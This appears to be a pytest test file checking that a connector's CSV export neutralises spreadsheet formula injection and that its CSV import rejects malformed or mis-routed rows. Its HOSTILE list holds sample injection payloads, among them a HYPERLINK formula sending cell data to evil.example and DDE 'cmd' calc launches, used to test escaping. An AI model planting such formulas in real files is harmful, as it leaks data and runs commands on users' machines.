"""CSV export is safe to open in a spreadsheet (OWASP CSV injection) and round-trips; CSV import is strict and
checks code maps against the tenant. One bad row imports nothing."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from ml_connector.csvsafe import escape_cell, read_table, unescape_cell, writer
from ml_connector.mappings.csvio import (
    ImportProblems,
    export_codes,
    export_vendors,
    import_codes,
    import_vendors,
    known_exact_codes,
)
from ml_connector.mappings.vendors import set_link
from ml_connector.store.db import session_scope
from ml_connector.store.models import CodeMap, VendorMap

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_cells_are_quoted_and_read_back_unchanged(value: str) -> None:
    assert escape_cell(value) == "'" + value
    assert unescape_cell(escape_cell(value)) == value


@pytest.mark.parametrize("value", ["-12.50", "+3", "-0.5", "12", ".5", "-.5", "Acme Ltd", "", "O'Brien", "'quoted"])
def test_numbers_and_plain_text_are_written_as_is(value: str) -> None:
    """A plain number cannot be a formula; quoting it would turn amounts into text in every spreadsheet."""
    assert escape_cell(value) == value
    assert unescape_cell(value) == value


def test_non_text_cells_are_left_alone() -> None:
    buffer = io.StringIO()
    writer(buffer).writerow([-12.5, 111111, None, True, "=1"])
    assert buffer.getvalue() == "-12.5,111111,,True,'=1\n"
    writer(buffer).writerow(["\r=1", "a", "b", "c", "d"])  # a carriage return in a value: the row is quoted
    rows, problems = read_table(buffer.getvalue())
    assert problems == [] and rows[1] == (2, ["\r=1", "a", "b", "c", "d"])


def test_every_csv_writer_of_the_product_uses_the_safe_writer() -> None:
    """No module writes CSV around the helper (``csv.writer`` / ``DictWriter`` only in ``csvsafe``)."""
    package = Path(__file__).resolve().parents[2] / "include" / "ml_connector"
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if path.name != "csvsafe.py"
        and any(needle in path.read_text(encoding="utf-8") for needle in ("csv.writer", "DictWriter", "to_csv("))
    ]
    assert offenders == []


def test_vendor_export_escapes_supplier_controlled_names_and_imports_back(sqlite_engine: Any) -> None:
    with session_scope(sqlite_engine) as s:
        for n, name in enumerate(HOSTILE, start=1):
            set_link(s, tenant="demo", division=111111, jaggaer_id=str(59000 + n), exact_code=str(n), name=name)
    out = io.StringIO()
    with session_scope(sqlite_engine) as s:
        export_vendors(s, "demo", out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and c != "")]
    names = [row[5] for row in csv.reader(io.StringIO(out.getvalue()))][1:]
    assert names == ["'" + v for v in HOSTILE]
    with session_scope(sqlite_engine) as s:
        s.execute(VendorMap.__table__.delete())
    with session_scope(sqlite_engine) as s:
        result = import_vendors(s, "demo", out.getvalue(), divisions=[111111, 222222])
    assert result.created == len(HOSTILE)
    with session_scope(sqlite_engine) as s:
        stored = s.scalars(select(VendorMap.name).order_by(VendorMap.jaggaer_supplier_id)).all()
    assert stored == [v.strip() for v in HOSTILE]  # the import trims values, as it always has


def test_code_export_keeps_negative_numbers_numeric(sqlite_engine: Any) -> None:
    from ml_connector.mappings.csvio import set_code

    with session_scope(sqlite_engine) as s:
        set_code(s, "demo", "cost_center", "-100", "-12.50", "=cmd")
    out = io.StringIO()
    with session_scope(sqlite_engine) as s:
        export_codes(s, "demo", out)
    assert out.getvalue().splitlines()[1] == "cost_center,-100,-12.50,'=cmd"


# ------------------------------------------------------------------------------------------------- strict import


def _count(engine: Any) -> int:
    with session_scope(engine) as s:
        return s.scalar(select(func.count()).select_from(CodeMap)) or 0


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # the reproduced case: the quote swallowed the next row ("1 created" for 2 rows)
        (
            'kind,source_value,target_value,note\nvat_code,20,1,"standard\nvat_code,5,2,reduced\n',
            "row 2: a quoted value is never closed (unterminated quote)",
        ),
        (
            'kind,source_value,target_value,note\nvat_code,20,1,"standard\nvat_code,5,2,"reduced"\n',
            "row 2: not valid CSV",
        ),
        (
            'kind,source_value,target_value,note\nvat_code,20,1,"a\nb"\nvat_code,5,2,x\n',
            "row 2: value 4 runs over lines 2-3",
        ),
        ("kind,source_value,target_value,note\nvat_code,20,1,x\nvat_code,5,2\n", "row 3: 3 values for 4 columns"),
        ("kind,source_value,target_value,note\nvat_code,20,1,x,extra\n", "row 2: 5 values for 4 columns"),
        ('kind,source_value,target_value,note\nvat_code,20,1,"x"y\n', "row 2: not valid CSV"),
    ],
)
def test_malformed_csv_is_an_error_naming_the_row_and_imports_nothing(
    sqlite_engine: Any, text: str, expected: str
) -> None:
    with session_scope(sqlite_engine) as s, pytest.raises(ImportProblems) as problems:
        import_codes(s, "demo", text)
    assert any(p.startswith(expected) for p in problems.value.problems), problems.value.problems
    assert _count(sqlite_engine) == 0


def test_read_table_numbers_rows_like_a_spreadsheet() -> None:
    rows, problems = read_table("a,b\n\n1,2\n'=x,3\n")
    assert problems == [] and rows == [(1, ["a", "b"]), (3, ["1", "2"]), (4, ["=x", "3"])]


def test_business_unit_map_must_route_to_a_division_of_the_tenant(sqlite_engine: Any) -> None:
    text = "kind,source_value,target_value,note\nbusiness_unit,UK-NEW,222222,\nbusiness_unit,UK-BAD,333333,typo\n"
    with session_scope(sqlite_engine) as s, pytest.raises(ImportProblems) as problems:
        import_codes(s, "demo", text, divisions=[111111, 222222])
    assert problems.value.problems == [
        "row 3, column 'target_value': division 333333 is not one of the tenant's divisions [111111, 222222]: its "
        "invoices could not be routed; use one of them, or add the division to exact.divisions in the tenant file"
    ]
    assert _count(sqlite_engine) == 0


def test_gl_cost_centre_and_vat_targets_are_checked_against_exact_master_data(sqlite_engine: Any) -> None:
    from ml_connector.flows.invoice_poll.master import GL, MasterData

    master = MasterData(
        division=111111,
        gl={"7000": GL(id="g", code="7000", blocked=False)},
        cost_centers={"CC100": ("CC100", True)},
        vat_codes={"1": ("1  ", False), "9": ("9", True)},
    )
    codes = known_exact_codes([master])
    text = (
        "kind,source_value,target_value,note\n"
        "gl_account,Invoice,7000,\n"
        "gl_account,Credit memo,7999,\n"
        "cost_center,CC9,CC100,\n"
        "cost_center,CC8,CC404,\n"
        "vat_code,20,1,\n"
        "vat_code,5,9,\n"
        "vat_code,7,2,\n"
        "currency,GBP,GBP,\n"
    )
    with session_scope(sqlite_engine) as s, pytest.raises(ImportProblems) as problems:
        import_codes(s, "demo", text, divisions=[111111], exact_codes=codes)
    assert problems.value.problems == [
        "row 3, column 'target_value': GL account '7999' does not exist in Exact (not in its master data)",
        "row 5, column 'target_value': cost centre 'CC404' does not exist in Exact (not in its master data)",
        "row 7, column 'target_value': VAT code '9' is blocked (or inactive) in Exact: entries on it would be refused",
        "row 8, column 'target_value': VAT code '2' does not exist in Exact (not in its master data)",
    ]
    assert _count(sqlite_engine) == 0
    good = "\n".join(line for line in text.splitlines() if not line.endswith((",7999,", ",CC404,", ",9,", ",2,")))
    with session_scope(sqlite_engine) as s:
        assert import_codes(s, "demo", good, divisions=[111111], exact_codes=codes).created == 4


def test_cli_import_refuses_a_business_unit_routed_outside_the_tenant(sqlite_engine: Any, tmp_path: Path) -> None:
    from ml_connector.cli.mappings_cmd import app

    path = tmp_path / "codes.csv"
    path.write_text("kind,source_value,target_value,note\nbusiness_unit,UK-X,999999,\n", encoding="utf-8")
    result = CliRunner().invoke(
        app,
        ["import", "codes", str(path), "--tenant", "demo"],
        env={"MLC_DB_URL": sqlite_engine.url.render_as_string(hide_password=False)},
    )
    assert result.exit_code == 1
    assert "row 2, column 'target_value': division 999999 is not one of the tenant's divisions" in result.output
    assert "nothing imported" in result.output
    assert _count(sqlite_engine) == 0


def test_a_stored_business_unit_map_outside_the_tenant_is_explained(sqlite_engine: Any) -> None:
    """Maps stored before imports were checked: the invoice poll can say which map sends invoices nowhere."""
    from ml_connector.config import load_tenants
    from ml_connector.mappings.codes import CodeRules
    from ml_connector.mappings.csvio import set_code

    demo = load_tenants()["demo"]
    with session_scope(sqlite_engine) as s:
        set_code(s, "demo", "business_unit", "UK-OLD", "333333")
        rules = CodeRules.load(s, demo)
    reason = rules.bad_route("UK-OLD", [111111, 222222])
    assert reason is not None and "code map business_unit['UK-OLD'] routes to division 333333" in reason
    assert "mlc mappings delete code --tenant demo --kind business_unit --source 'UK-OLD'" in reason
    assert rules.bad_route("UK-MFG", [111111, 222222]) is None and rules.bad_route(None, [1]) is None
